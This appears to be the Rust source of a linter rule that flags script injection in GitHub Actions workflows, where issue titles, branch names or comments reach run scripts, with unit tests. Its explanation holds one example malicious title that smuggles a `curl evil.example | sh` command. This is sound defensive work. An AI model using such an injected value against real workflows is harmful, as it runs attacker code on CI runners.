//! GHA-002: nothing that anybody may write becomes part of a script. The fix is `injection_fix`'s.

use std::collections::HashMap;

use super::super::expressions::{Expression, inside, parse};
use super::super::model::{Job, Step, Subject};
use super::super::places::{Placed, placed};
use super::super::untrusted::reaches;
use super::injection_fix::{Hole, fix};
use crate::findings::{Rule, Section, Severity};
use crate::policies::report::{Findings, Found};
use crate::yaml::Node;

/// The rule.
pub(in crate::policies) static RULE: Rule = Rule {
    id: "GHA-002",
    section: Section::Policy,
    title: "Nothing that an outsider writes becomes part of a script",
    severity: Severity::Error,
    aliases: &["template-injection", "CKV_GHA_2", "script-injection"],
    why: "GitHub puts the value of an expression into the script before a shell reads it: a title such as `a\"; curl evil.example | sh; \"` runs. Titles, bodies, comments, names of branches, and messages and authors of commits can be written by anybody. \
As actionlint does, we report those contexts, whatever event starts the workflow, and not where they are only compared or looked for. Beyond it: variables of `env` that are set from them, objects that are written out whole with `toJSON`, and what `workflow_run` brings. \
zizmor also reports, with less confidence, `inputs`, `matrix`, outputs of steps and other expressions; whoever sets those may write to the repository already or is not known, so we do not.",
    how: "Give the value to the script as a variable: `env: TITLE: ${{ … }}` on the step and `\"$TITLE\"` in the script; in `actions/github-script`, take it from `context.payload` or `process.env`.",
    wrong: fixture!("GHA-002/wrong/dot-github/workflows/triage.yml"),
    right: fixture!("GHA-002/right/dot-github/workflows/triage.yml"),
};

/// Inputs of actions that are code.
const CODE: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("appleboy/ssh-action", "script"),
    ("nick-fields/retry", "command"),
];

/// Names of variables that an outsider fills.
type Variables = HashMap<String, bool>;

/// Notes each expression of that kind in a script.
pub(super) fn check(subject: &Subject<'_>, out: &mut Findings<'_>) {
    if !subject.text().contains("${{") {
        return;
    }
    let of_file = variables(subject.root.get("env"), &|_| false);
    let in_file = |name: &str| of_file.get(name).copied().unwrap_or(false);
    let mut of_job: Option<(&str, Variables)> = None;
    // More are not shown, and each takes time.
    let mut left = out.settings.limits.findings;
    for (job, step) in subject.steps() {
        let id = job.map_or("", |job| job.id);
        if of_job.as_ref().is_none_or(|(of, _)| *of != id) {
            of_job = Some((id, variables(job.and_then(|job| job.get("env")), &in_file)));
        }
        let in_job = |name: &str| {
            let own = of_job.as_ref().and_then(|(_, own)| own.get(name).copied());
            own.unwrap_or_else(|| in_file(name))
        };
        left = left.saturating_sub(check_step(subject, job, step, &in_job, out));
        if left == 0 {
            return;
        }
    }
}

/// How many were found.
fn check_step(
    subject: &Subject<'_>,
    job: Option<&Job<'_>>,
    step: Step<'_>,
    in_job: &dyn Fn(&str) -> bool,
    out: &mut Findings<'_>,
) -> usize {
    let Some(script) = script(step) else { return 0 };
    if !script.as_text().is_some_and(|text| text.contains("${{")) {
        return 0;
    }
    let own = variables(step.get("env"), in_job);
    let env = |name: &str| own.get(name).copied().unwrap_or_else(|| in_job(name));
    let holes = holes(subject, script, &env);
    let fix = if step.run().is_some() { fix(subject, job, step, &holes) } else { None };
    for hole in &holes {
        let what = subject_of(&hole.expression, &env);
        let message = format!("a script must not contain what an outsider writes, but it contains {what}");
        let help = "Set a variable in `env` of the step to it, and use that variable in quotes in the script.";
        let span = hole.placed.span(&hole.expression.range, script, subject.positions);
        let fixes = fix.as_ref().filter(|fix| fix.holes.contains(&hole.placed.inner.start));
        let found = Found::new(&RULE, subject.path, span, message).help(help);
        out.add(found.fix(fixes.map(|fix| fix.fix.clone())));
    }
    holes.len()
}

/// The text of a step that a shell or an interpreter runs.
fn script<'d>(step: Step<'d>) -> Option<&'d Node<'d>> {
    if let Some(run) = step.get("run") {
        return Some(run);
    }
    let (_, uses) = step.uses()?;
    let (_, input) = CODE.iter().find(|(action, _)| uses.is(action))?;
    Some(&step.with(input)?.value)
}

/// Where outsiders write into a text.
fn holes(subject: &Subject<'_>, script: &Node<'_>, env: &dyn Fn(&str) -> bool) -> Vec<Hole> {
    let text = script.as_text().unwrap_or_default();
    let hole = |placed: Placed| {
        let expression = parse(text.get(placed.inner.clone())?).ok()?;
        reaches(&expression, env)?;
        Some(Hole { placed, expression })
    };
    placed(script, subject.positions).into_iter().filter_map(hole).take(200).collect()
}

/// The variables of an `env`, and which of them an outsider fills. `outer` knows those of the levels around.
fn variables(env: Option<&Node<'_>>, outer: &dyn Fn(&str) -> bool) -> Variables {
    let mut found = Variables::new();
    for entry in env.and_then(Node::as_map).into_iter().flat_map(|map| &map.entries) {
        let text = entry.value.as_text().unwrap_or_default();
        let is_filled = |inner: std::ops::Range<usize>| {
            let expression = text.get(inner).and_then(|inner| parse(inner).ok());
            expression.is_some_and(|expression| reaches(&expression, outer).is_some())
        };
        let filled = inside(text).into_iter().any(|(inner, _)| is_filled(inner));
        found.insert(entry.key.to_ascii_lowercase(), filled);
    }
    found
}

/// The context, in backticks.
fn subject_of(expression: &Expression, env: &dyn Fn(&str) -> bool) -> String {
    let path = reaches(expression, env).and_then(Expression::path).unwrap_or_default().join(".");
    let shown: String = path.chars().filter(|letter| *letter != '`').take(60).collect();
    format!("`{shown}`")
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::policies::workflows::tests::{found, lines, lines_of, step};

    #[test]
    fn it_is_found_at_its_place_in_scripts_of_all_kinds() {
        let run = step("run: |\n          echo a\n          echo \"${{ github.event.issue.title }}\"");
        assert_eq!(lines(&RULE, &run), [8]);
        let script =
            step("uses: actions/github-script@v7\n        with:\n          script: log(`${{ github.head_ref }}`)");
        assert_eq!(lines(&RULE, &script), [8]);
        let action = "runs:\n  using: composite\n  steps:\n    - run: echo ${{ github.head_ref }}\n      shell: bash\n";
        assert_eq!(lines_of(&RULE, "action.yml", action), [4]);
    }

    #[test]
    fn a_variable_of_env_is_followed_and_may_be_set_anew() {
        let text = "on: push\nenv:\n  T: ${{ github.head_ref }}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ env.T }}\n      - run: echo ${{ env.T }}\n        env:\n          T: fixed\n      - run: echo \"$T\"\n";
        assert_eq!(lines(&RULE, text), [8]);
    }

    #[test]
    fn the_message_names_the_context_and_nothing_else() {
        let text = step("run: echo '${{ format('x {0}', github.event.comment.body) }}'");
        let found = found(&text).into_iter().find(|found| found.rule.id == "GHA-002").unwrap();
        insta::assert_snapshot!(found.message, @"a script must not contain what an outsider writes, but it contains `github.event.comment.body`");
        assert_eq!(found.fix, None);
    }
}
